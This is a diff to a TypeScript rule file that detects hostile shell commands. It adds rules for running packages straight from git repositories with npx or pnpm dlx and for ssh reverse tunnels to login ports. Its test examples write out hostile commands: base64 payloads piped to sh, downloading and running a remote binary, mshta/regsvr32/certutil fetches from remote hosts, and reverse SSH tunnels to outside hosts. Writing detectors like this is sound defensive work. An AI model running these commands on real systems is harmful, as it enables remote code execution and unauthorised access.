@@ -121,6 +121,13 @@ const downloadRun: CommandRule = {
       if (!ran && !made) return undefined;
       return { action: run("decoded payload", inv), reason: `decodes ${shown(file)} from text and ${ran ? "runs it" : "makes it executable"}: deobfuscate and run (T1140)`, technique: "T1140" };
     }
+    // npx github:user/repo, pnpm dlx git+https://…, bunx https://…tgz: a package from a repository or URL, not a registry's, run at once.
+    const runner = /^(npx|bunx)$/.test(inv.name) || ((inv.name === "pnpm" || inv.name === "yarn") && inv.args[0] === "dlx");
+    // The package is the first word that is no option (after dlx), or a --package/-p value; later words are its own arguments.
+    const own = runner ? (inv.args[0] === "dlx" ? inv.args.slice(1) : inv.args) : [];
+    const specs = [own.find((x, i) => !x.startsWith("-") && !/^(-p|--package)$/.test(own[i - 1] ?? "")), ...own.filter((x, i) => /^(-p|--package)$/.test(own[i - 1] ?? "")), ...own.map((x) => /^--package=(.+)$/.exec(x)?.[1])];
+    const spec = specs.find((x): x is string => x !== undefined && /^(github:|gitlab:|bitbucket:|git\+|git:\/\/|git@|https?:\/\/)/i.test(x));
+    if (spec !== undefined) return { action: run(/^https?:/i.test(spec) ? spec : `https://${spec.replace(/^(github|gitlab|bitbucket):/i, "$1.com/").replace(/^git\+/, "")}`), reason: `runs a package straight from ${shown(spec)}, not from a registry, with ${inv.name}: whatever that repository holds now runs here (T1195.001)`, technique: "T1195.001" };
     // curl -o /tmp/x URL; chmod +x /tmp/x; /tmp/x
     if (FETCHERS.has(inv.name)) {
       const file = fetchedFile(inv.args);
@@ -144,8 +151,10 @@ const downloadRun: CommandRule = {
       `echo ZWNobyBoaQ== | base64 -d | sh`,
       `wget http://203.0.113.1/x.elf -qO /dev/shm/x; chmod +x /dev/shm/x; /dev/shm/x`,
       `echo f0VMRgIBAQ== | base64 -d > /tmp/x && chmod +x /tmp/x && /tmp/x`,
+      `npx --yes github:tmpdev-x/prisma-fix-helper --apply`,
+      `pnpm dlx git+https://github.com/x/y.git`,
     ],
-    noMatch: [`base64 -d key.b64 > key.bin && chmod 600 key.bin`, `echo aGk= | base64 -d > out.txt && cat out.txt`, `curl -fsSL https://example.com/install.sh -o install.sh`, `curl https://api.github.com/repos/x/y | jq .`, `bash build.sh`, `wget https://files.example.com/data.csv -O data.csv && head data.csv`],
+    noMatch: [`npx playwright screenshot --viewport-size=1280,720 http://localhost:3000 shots/home.png`, `npx prisma migrate dev`, `pnpm dlx create-next-app@latest web`, `base64 -d key.b64 > key.bin && chmod 600 key.bin`, `echo aGk= | base64 -d > out.txt && cat out.txt`, `curl -fsSL https://example.com/install.sh -o install.sh`, `curl https://api.github.com/repos/x/y | jq .`, `bash build.sh`, `wget https://files.example.com/data.csv -O data.csv && head data.csv`],
   },
 };
 
@@ -174,6 +183,24 @@ const proxyExecution: CommandRule = {
   examples: {
     match: [`mshta.exe https://cdn-msupdate-check.net/kb5034441.hta`, `cmd.exe /c "mshta https://x.example/a.hta"`, `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)`, `regsvr32 /s /n /u /i:http://203.0.113.4/file.sct scrobj.dll`, `certutil.exe -urlcache -split -f http://203.0.113.8/p.exe p.exe`],
     noMatch: [`mshta.exe`, `certutil -hashfile setup.exe SHA256`, `regsvr32 /s mylib.dll`, `rundll32 printui.dll,PrintUIEntry /?`],
+  },
+};
+
+/** A remote port forwarded to this machine's SSH, RDP or VNC (ssh -R 2222:localhost:22 host): whoever is on that host logs in here. */
+const reverseTunnel: CommandRule = {
+  id: "execution.reverse-tunnel",
+  tactic: "Command and Control (TA0011)",
+  technique: "T1572",
+  match(inv) {
+    if (inv.name !== "ssh" && inv.name !== "autossh") return undefined;
+    const forward = inv.args.find((x, i) => (inv.args[i - 1] === "-R" || /^-[a-zA-Z]*R$/.test(inv.args[i - 1] ?? "")) && /(?:^|:)(?:localhost|127\.0\.0\.1|\[?::1\]?|0\.0\.0\.0)?:?(22|3389|5900)$/.test(x)) ?? inv.args.map((x) => /^-R(.+)$/.exec(x)?.[1]).find((x) => x !== undefined && /:(22|3389|5900)$/.test(x));
+    if (forward === undefined) return undefined;
+    const host = inv.args.filter((x, i) => !x.startsWith("-") && !/^-[a-zA-Z]*[RLDopiFlJWw]$/.test(inv.args[i - 1] ?? "")).pop() ?? "";
+    return { action: remoteShell(host.replace(/^.*@/, "")), reason: `forwards a port on ${shown(host || "another host")} to this machine's login service (${shown(forward)}): whoever is on that host can log in here (T1572)` };
+  },
+  examples: {
+    match: [`ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 tun@91.210.107.33`, `autossh -M 0 -f -N -R 0.0.0.0:4422:127.0.0.1:22 relay@vps.example.net`],
+    noMatch: [`ssh -N -R 8080:localhost:3000 dev@share.example.com`, `ssh -L 5432:db.internal:5432 bastion`, `ssh deploy@web-1 uptime`],
   },
 };
 
@@ -289,4 +316,4 @@ const remoteCommand: CommandRule = {
   },
 };
 
-export const executionRules: readonly CommandRule[] = [reverseShell, downloadRun, proxyExecution, typosquat, remoteCommand];
+export const executionRules: readonly CommandRule[] = [reverseShell, reverseTunnel, downloadRun, proxyExecution, typosquat, remoteCommand];
